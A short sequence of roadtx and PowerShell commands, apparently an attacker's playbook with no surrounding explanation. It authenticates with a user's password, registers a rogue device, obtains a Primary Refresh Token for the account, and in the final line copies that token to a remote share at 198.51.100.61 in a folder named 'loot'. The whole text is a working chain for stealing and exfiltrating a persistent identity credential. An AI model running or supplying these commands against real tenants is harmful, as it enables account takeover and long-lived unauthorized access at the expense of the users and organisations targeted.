roadtx gettokens -u "m.jones@fabrikam.com" -p $pw -r devicereg
roadtx device -a join -n "DESKTOP-8K2L"
roadtx prt -u "m.jones@fabrikam.com" -p $pw --key-pem devicekey.pem --cert-pem devicecert.pem
Copy-Item roadtx.prt "\\198.51.100.61\loot\prt.txt"
